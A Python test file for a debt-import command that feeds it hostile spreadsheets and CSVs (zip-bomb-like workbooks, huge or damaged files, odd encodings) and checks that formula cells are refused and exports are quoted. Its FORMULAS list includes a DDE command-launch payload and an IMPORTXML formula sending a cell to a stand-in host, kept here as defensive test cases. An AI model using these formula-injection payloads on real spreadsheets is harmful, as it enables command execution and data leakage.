"""Hostile spreadsheets given to ``import-debts`` (issue 15).

Every file is built here, from a fixed seed, and imported in-process through the command line.
Each one exits 0 with its debts in the case, or 2 with a message naming the place (sheet, row,
cell or column), the value and the fix; none exits 1, prints a traceback or takes long.
"""

from __future__ import annotations

import os
import random
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Font
from openpyxl.worksheet.formula import ArrayFormula

from helpers.case import load_case, safe_for_sheet
from helpers.cli import main

SEEDS = range(10)
HEADER = ["出借方", "类型", "本金", "年利率", "账号", "备注"]
LENDERS = ["招商银行", "借呗", "表哥", "某小贷", "Bank of China"]
KINDS = ["信用卡", "网贷", "亲友借款", "credit_card", "小贷"]


def _debt(rng: random.Random) -> list:
    return [rng.choice(LENDERS), rng.choice(KINDS), rng.randint(1, 10**6), rng.choice([0, 0.18])]


def _workbook(rows: list[list], title: str = "Debts") -> Workbook:
    book = Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    return book


def _import(path, capsys, *, lang: tuple[str, ...] = ("--lang", "en")) -> tuple[int, str, str]:
    """Run the command on a file; the exit status, what it printed, and what it complained."""
    code = main(["import-debts", str(path), "--into", "zhang_wei_unemployed", *lang])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert code in (0, 2), err
    return code, out, err


def _imported(cases_dir) -> list:
    """The debts the import added to the sample case (which has five)."""
    return load_case(cases_dir / "zhang_wei_unemployed.yaml").debts[5:]


def _refused(path, capsys, cases_dir, *expected: str) -> str:
    code, out, err = _import(path, capsys)
    assert code == 2
    assert out == ""
    for text in expected:
        assert text in err
    assert list(cases_dir.iterdir()) == []  # nothing copied, nothing saved
    return err


# ---- chart sheets and empty sheets: passed over for the first worksheet with data ----


@pytest.mark.parametrize("seed", SEEDS)
def test_chart_sheets_before_the_debts_are_passed_over(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    rows = [_debt(rng) for _ in range(rng.randint(1, 5))]
    book = _workbook([HEADER[:4], *rows])
    for index in range(rng.randint(1, 3)):
        chart_sheet = book.create_chartsheet(f"Chart{index}", 0)
        if rng.random() < 0.5:  # a chart sheet with no chart made openpyxl fail
            chart = BarChart()
            chart.add_data(Reference(book["Debts"], min_col=3, min_row=1, max_row=len(rows) + 1))
            chart_sheet.add_chart(chart)
    book.save(path := tmp_path / "charts.xlsx")
    code, out, _ = _import(path, capsys)
    assert code == 0
    assert f"imported {len(rows)} debt" in out
    assert [d.lender for d in _imported(cases_dir)] == [row[0] for row in rows]


def _empty_sheet(book: Workbook, rng: random.Random, index: int) -> None:
    """A sheet that looks empty: nothing, blanks, formatted empty cells, or hidden data."""
    sheet = book.create_sheet(f"Empty{index}", 0)
    shape = rng.choice(["nothing", "blanks", "formatted", "hidden"])
    if shape == "blanks":
        sheet.append(["  ", None, "\t", ""])
        sheet.cell(row=rng.randint(2, 50), column=rng.randint(1, 30), value=" ")
    elif shape == "formatted":
        for row in range(1, rng.randint(2, 40)):
            sheet.cell(row=row, column=rng.randint(1, 10)).font = Font(bold=True)
    elif shape == "hidden":
        sheet.append(HEADER[:4])
        sheet.append(["隐藏的债", "信用卡", 1, 0])
        sheet.sheet_state = "hidden"


@pytest.mark.parametrize("seed", SEEDS)
def test_empty_and_hidden_sheets_are_passed_over(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    rows = [_debt(rng) for _ in range(rng.randint(1, 5))]
    book = _workbook([HEADER[:4], *rows], title="我的债务")
    for index in range(rng.randint(1, 4)):
        _empty_sheet(book, rng, index)
    book.save(path := tmp_path / "empties.xlsx")
    code, out, _ = _import(path, capsys)
    assert code == 0
    assert [d.lender for d in _imported(cases_dir)] == [row[0] for row in rows]


@pytest.mark.parametrize("seed", SEEDS)
def test_a_workbook_without_a_worksheet_with_data_is_refused(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    book = Workbook()
    book.active.title = "Sheet1"
    for index in range(rng.randint(0, 3)):
        _empty_sheet(book, rng, index)
    if rng.random() < 0.5:
        book.create_chartsheet("Chart", 0)
    book.save(path := tmp_path / "nothing.xlsx")
    _refused(
        path,
        capsys,
        cases_dir,
        str(path),
        "the workbook has no worksheet with data",
        "put the debts on a worksheet, the header in row 1",
    )


# ---- too many rows: refused with the limit, without reading on ----


@pytest.mark.parametrize("seed", SEEDS)
def test_more_than_2000_debts_are_refused(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    count = 2001 + rng.randint(0, 3000)
    if seed % 2:
        lines = [",".join(HEADER[:4])] + ["表哥,亲友借款,100,0"] * count
        (path := tmp_path / "many.csv").write_text("\n".join(lines), "utf-8")
        sheet = "many"
    else:
        book = Workbook(write_only=True)
        rows = book.create_sheet("Debts")
        rows.append(HEADER[:4])
        for _ in range(count):
            rows.append(_debt(rng))
        book.save(path := tmp_path / "many.xlsx")
        sheet = "Debts"
    _refused(
        path,
        capsys,
        cases_dir,
        f"sheet {sheet} has more than 2000 debts (row 2002 is one too many)",
        "import at most 2000 at a time: split the table into several files",
    )


def _with_sheet_xml(path, rows_xml: bytes) -> None:
    """A workbook written by openpyxl whose sheet is then given the rows in ``rows_xml``."""
    _workbook([HEADER[:4]]).save(path)
    with zipfile.ZipFile(path) as original:
        parts = {name: original.read(name) for name in original.namelist()}
    parts["xl/worksheets/sheet1.xml"] = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>" + rows_xml + b"</sheetData></worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as rebuilt:
        for name, data in parts.items():
            rebuilt.writestr(name, data)


def test_a_400000_row_workbook_is_refused_in_moments(tmp_path, capsys, cases_dir):
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c><c r="C%d"><v>%d</v></c></row>'
        % (n, n, n, n)
        for n in range(1, 400_001)
    )
    _with_sheet_xml(path := tmp_path / "huge.xlsx", rows)
    start = time.perf_counter()
    _refused(
        path,
        capsys,
        cases_dir,
        "the workbook unpacks to",
        "more than the 5 MB that can be read (a table of at most 2000 debts is far smaller)",
        "copy the debts into a new workbook, or save the sheet as CSV UTF-8",
    )
    assert time.perf_counter() - start < 5


def test_a_400000_row_csv_is_refused_in_moments(tmp_path, capsys, cases_dir):
    path = tmp_path / "huge.csv"
    path.write_text("出借方,类型,本金,年利率\n" + "表哥,亲友借款,100,0\n" * 400_000, "utf-8")
    start = time.perf_counter()
    _refused(path, capsys, cases_dir, "sheet huge has more than 2000 debts (row 2002")
    assert time.perf_counter() - start < 5


def test_rows_far_below_the_debts_are_refused(tmp_path, capsys, cases_dir):
    book = _workbook([HEADER[:4], ["表哥", "亲友借款", 100, 0]])
    book.active.cell(row=50_000, column=1, value="合计")
    book.save(path := tmp_path / "far.xlsx")
    _refused(
        path,
        capsys,
        cases_dir,
        "sheet Debts goes on past row 20000 (blank rows included)",
        "delete the rows below the debts",
    )
    (blank := tmp_path / "blank.csv").write_text(
        "出借方,类型,本金\n" + "\n" * 30_000 + "x,网贷,1\n"
    )
    _refused(blank, capsys, cases_dir, "sheet blank goes on past row 20000")


@pytest.mark.parametrize(
    ("name", "make", "expected"),
    [
        (
            "big.csv",
            lambda p: p.write_bytes(b"lender,kind,principal\n" + b"x" * (21 * 1024 * 1024)),
            "the file is 21.0 MB, more than the 20 MB that can be imported",
        ),
        (
            "bomb.xlsx",
            lambda p: _with_sheet_xml(p, b'<row r="1" s="1" customFormat="1"/>' * 200_000),
            "the workbook unpacks to 6.",
        ),
        ("folder.csv", lambda p: p.mkdir(), "the file cannot be read (Is a directory)"),
        ("pipe.csv", os.mkfifo, "the file cannot be read (not a regular file)"),
        (
            "old.xlsx",
            lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
            "an old .xls workbook or one with a password",
        ),
        (
            "bad_xml.xlsx",
            lambda p: _with_sheet_xml(p, b"<row r='1'><c r='A1'><v>1</v></c><row><broken"),
            "not a valid .xlsx workbook",
        ),
        (
            "nul.csv",
            lambda p: p.write_bytes(b"lender,kind\x00,principal\n"),
            "the file is not text",
        ),
        (
            "long.csv",
            lambda p: p.write_text('出借方,类型,本金\n表哥,网贷,"' + "1" * 200_000 + '"\n'),
            "the CSV does not parse (field larger than field limit",
        ),
    ],
)
def test_files_too_big_or_not_workbooks_are_refused(
    name, make, expected, tmp_path, capsys, cases_dir
):
    make(path := tmp_path / name)
    _refused(path, capsys, cases_dir, str(path), expected)


def test_cells_far_to_the_right_are_not_read(tmp_path, capsys, cases_dir):
    book = _workbook([HEADER[:4], ["表哥", "亲友借款", 100, 0]])
    book.active.cell(row=2, column=16_384, value="XFD")  # the last column a sheet has
    book.save(path := tmp_path / "wide.xlsx")
    code, _, _ = _import(path, capsys)
    assert code == 0
    assert [d.lender for d in _imported(cases_dir)] == ["表哥"]


# ---- number cells in text columns: their digits, as text ----


@pytest.mark.parametrize("seed", SEEDS)
def test_number_cells_in_text_columns_are_read_as_their_digits(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    rows, expected = [], []
    for _ in range(rng.randint(1, 6)):
        size = rng.randint(1, 15)
        digits = rng.randint(10 ** (size - 1), 10**size - 1)
        account = float(digits) if rng.random() < 0.5 else digits  # Excel stores floats
        lender = rng.choice(["招商银行", 12345, 95588.0])
        note = rng.choice([12.5, 7, "备注", 6222021234.0])
        rows.append([lender, "信用卡", 100, 0.18, account, note])
        expected.append(
            (
                str(int(lender)) if not isinstance(lender, str) else lender,
                str(digits),
                {12.5: "12.5", 7: "7", 6222021234.0: "6222021234"}.get(note, note),
            )
        )
    _workbook([HEADER, *rows]).save(path := tmp_path / "numbers.xlsx")
    code, _, _ = _import(path, capsys)
    assert code == 0
    found = [(d.lender, d.account_number, d.note) for d in _imported(cases_dir)]
    assert found == expected
    assert not any(".0" in account for _, account, _ in found)


@pytest.mark.parametrize("seed", SEEDS)
def test_numbers_of_16_digits_or_more_are_refused(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    digits = rng.randint(10**15, 10**19)  # 16 to 20 digits
    column, header = rng.choice([(5, "账号"), (6, "备注"), (1, "出借方")])
    row = [rng.choice(LENDERS), "信用卡", 100, 0.18, "6222", None]
    if seed % 3 == 2:  # as Excel saves it in a CSV: the digits shown, in scientific notation
        shown = f"{digits:.5E}"  # 6.22202E+18
        row[column - 1] = shown
        lines = [",".join(HEADER), ",".join("" if c is None else str(c) for c in row)]
        (path := tmp_path / "cards.csv").write_text("\n".join(lines), "utf-8")
        value, sheet = repr(shown), "cards"
    else:
        row[column - 1] = float(digits) if seed % 3 == 0 else digits
        _workbook([HEADER, _debt(rng) + [None, None], row]).save(path := tmp_path / "cards.xlsx")
        stored = load_workbook(path).active.cell(row=3, column=column).value  # as the file has it
        value, sheet = str(stored), "Debts"
    line = 2 if sheet == "cards" else 3
    _refused(
        path,
        capsys,
        cases_dir,
        f"row {line}, column {header}",
        f"{value} has lost its last digits (sheet {sheet}, cell {'ABCDEF'[column - 1]}{line})",
        "format the column as text (Format Cells → Text), type the number again in full",
    )


# ---- formula cells: refused, naming the cell ----

FORMULAS = [
    '=HYPERLINK("http://example.com/pay","还款")',
    "=SUM(C2:C3)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "＝C2*2",  # a full-width equals sign, as a Chinese keyboard types it
]


@pytest.mark.parametrize("seed", SEEDS)
def test_formula_cells_are_refused_naming_the_cell(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    rows = [_debt(rng) + [None, None] for _ in range(rng.randint(2, 5))]
    row, column = rng.randrange(len(rows)), rng.choice([1, 3, 4, 5, 6])
    formula = rng.choice(FORMULAS)
    place = f"{'ABCDEF'[column - 1]}{row + 2}"
    style = ["formula", "text", "array", "csv"][seed % 4]
    if style == "csv":
        rows[row][column - 1] = formula
        lines = [",".join(HEADER)] + [
            ",".join('"' + str(c).replace('"', '""') + '"' if c is not None else "" for c in r)
            for r in rows
        ]
        (path := tmp_path / "formulas.csv").write_text("\n".join(lines), "utf-8")
        sheet = "formulas"
    else:
        book = _workbook([HEADER, *rows])
        cell = book.active[place]
        if style == "array":
            formula = "=SUM(C2:C3*2)"
            cell.value = ArrayFormula(place, formula)
        else:
            cell.value = formula
            if style == "text":  # a text cell that begins with =, as typed after a quote
                cell.data_type = "s"
        book.save(path := tmp_path / "formulas.xlsx")
        sheet = "Debts"
    _refused(
        path,
        capsys,
        cases_dir,
        f"row {row + 2}, column {HEADER[column - 1]}",
        f"{formula!r} is a formula (sheet {sheet}, cell {place})",
        "copy the cells and paste them back with Paste Special → Values",
    )


def test_a_formula_is_named_in_chinese_for_a_chinese_case(tmp_path, capsys, cases_dir):
    book = _workbook([HEADER[:4], ["表哥", "亲友借款", "=1000*2", 0]])
    book.save(path := tmp_path / "债务.xlsx")
    code, _, err = _import(path, capsys, lang=())  # the case zhang_wei is written in Chinese
    assert code == 2
    assert "第 2 行「本金」列 (principal)：'=1000*2' 是公式（工作表「Debts」C2 单元格）" in err
    assert "选择性粘贴 → 数值" in err


def test_text_that_only_starts_like_a_formula_is_kept_and_exported_safely(
    tmp_path, capsys, cases_dir
):
    notes = ["-", "+86 138 0000 0000", "@招商银行 app", "-A1-B1"]
    rows = [["表哥", "亲友借款", 100, 0, None, note] for note in notes]
    _workbook([HEADER, *rows]).save(path := tmp_path / "signs.xlsx")
    code, _, _ = _import(path, capsys)
    assert code == 0
    kept = [d.note for d in _imported(cases_dir)]
    assert kept == notes
    assert [safe_for_sheet(note) for note in kept] == ["'-", "'+86 138 0000 0000"] + [
        "'@招商银行 app",
        "'-A1-B1",
    ]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-A1"])
def test_text_a_spreadsheet_would_run_is_quoted_in_exports(text):
    assert safe_for_sheet(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "+3", "2025-04", "d1", "招商银行", 7, -1.5, None])
def test_numbers_and_plain_text_are_exported_as_they_are(value):
    assert safe_for_sheet(value) == value


def test_the_schedule_csv_quotes_a_debt_id_a_spreadsheet_would_run(tmp_path, capsys):
    from tests.support import SAMPLES

    text = (SAMPLES / "zhang_wei_unemployed.yaml").read_text("utf-8")
    (path := tmp_path / "case.yaml").write_text(text.replace("id: d1\n", "id: -A1-B1\n"), "utf-8")
    assert main(["schedule", str(path), "--horizon", "1", "--csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1].startswith("'-A1-B1,2025-")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)


# ---- files that are not workbooks, or not whole ----


@pytest.mark.parametrize("seed", SEEDS)
def test_garbage_bytes_named_xlsx_are_refused(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    garbage = rng.randbytes(rng.randint(0, 4000))
    if seed % 2:
        garbage = b"PK\x03\x04" + garbage  # looks like a zip for four bytes
    (path := tmp_path / "garbage.xlsx").write_bytes(garbage)
    _refused(
        path,
        capsys,
        cases_dir,
        "the file is not a valid .xlsx workbook; save it again as .xlsx from Excel or WPS",
    )


@pytest.mark.parametrize("seed", SEEDS)
def test_a_truncated_workbook_is_refused(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    _workbook([HEADER[:4], _debt(rng), _debt(rng)]).save(whole := tmp_path / "whole.xlsx")
    raw = whole.read_bytes()
    (path := tmp_path / "cut.xlsx").write_bytes(raw[: rng.randrange(len(raw) - 21)])
    _refused(path, capsys, cases_dir, "the file is not a valid .xlsx workbook")


@pytest.mark.parametrize("seed", SEEDS)
def test_a_damaged_workbook_never_fails_the_program(seed, tmp_path, capsys, cases_dir):
    rng = random.Random(seed)
    _workbook([HEADER[:4], _debt(rng), _debt(rng)]).save(whole := tmp_path / "whole.xlsx")
    raw = bytearray(whole.read_bytes())
    for _ in range(rng.randint(1, 20)):
        raw[rng.randrange(len(raw))] = rng.randrange(256)
    (path := tmp_path / "damaged.xlsx").write_bytes(bytes(raw))
    code, _, err = _import(path, capsys)
    if code == 2:  # the file named, then what is wrong with it
        first, *problems = err.splitlines()
        assert first.startswith(f"{path}: ")
        assert problems


# ---- CSV files in other encodings ----

ENCODED = [
    ("utf-16", "出借方\t类型\t本金\t年利率\n招商银行\t信用卡\t1000\t0.18\n", "招商银行"),
    ("utf-32", "出借方,类型,本金,年利率\n招商银行,信用卡,1000,0.18\n", "招商银行"),
    ("gbk", "出借方,类型,本金,年利率\n招商银行,信用卡,1000,0.18\n", "招商银行"),
    ("utf-8-sig", "lender,kind,principal,annual rate\nCafé,credit_card,1000,0.18\n", "Café"),
    (
        "big5",
        "出借方,類型,本金,年利率\n招商銀行,信用卡,1000,0.18\n",
        "none of the headers in row 1",
    ),
    ("utf-16-le", "出借方,类型,本金,年利率\n招商银行,信用卡,1000,0.18\n", "the file is not text"),
    ("cp1252", "lender,kind,principal,annual rate\nCafé,credit_card,1000,0.18\n", "not text"),
    (
        "shift_jis",
        "出借方,類型,本金,年利率\n銀行,信用,1000,0.18\n",
        "none of the headers in row 1",
    ),
    ("euc_kr", "대출기관,종류,원금\n은행,카드,1000\n", "none of the headers in row 1"),
    (
        "utf-7",
        "出借方,类型,本金,年利率\n招商银行,信用卡,1000,0.18\n",
        "none of the headers in row 1",
    ),
]


@pytest.mark.parametrize(("encoding", "text", "expected"), ENCODED)
def test_a_csv_in_another_encoding_is_read_or_refused_with_the_fix(
    encoding, text, expected, tmp_path, capsys, cases_dir
):
    (path := tmp_path / f"{encoding}.csv").write_bytes(text.encode(encoding))
    code, _, err = _import(path, capsys)
    if expected.startswith(("none", "the file", "not")):
        assert code == 2
        assert expected in err
        assert "save it as UTF-8" in err or "save the file as CSV UTF-8" in err
    else:
        assert code == 0, err
        assert [d.lender for d in _imported(cases_dir)] == [expected]


# ---- anything at all in the cells ----

ODD_VALUES = [
    None,
    "",
    " ",
    0,
    -1,
    1e308,
    10**40,
    float("nan"),
    float("inf"),
    True,
    "TRUE",
    "#N/A",
    "#DIV/0!",
    "1e400",
    "9" * 60,
    "＝1",
    "\u202e招商",
    "x" * 5000,
    "2024-02-30",
    "６２２２０２",
]


@pytest.mark.parametrize("seed", SEEDS)
def test_random_cells_exit_0_or_2_and_never_1(seed, tmp_path, capsys, cases_dir):
    import datetime as dt

    rng = random.Random(seed)
    values = ODD_VALUES + [dt.datetime(2024, 1, 31), dt.date(2025, 4, 1), dt.time(9, 30)]
    header = rng.sample(HEADER + ["还款日", "逾期天数", "合同日期", "编号", "产品"], k=8)
    rows = [header]
    for _ in range(rng.randint(1, 8)):
        rows.append([rng.choice(values) if rng.random() < 0.4 else c for c in _debt(rng) * 2])
    _workbook(rows).save(path := tmp_path / "odd.xlsx")
    code, _, err = _import(path, capsys)
    if code == 2:
        assert all(line.startswith("row ") for line in err.splitlines()[1:]), err
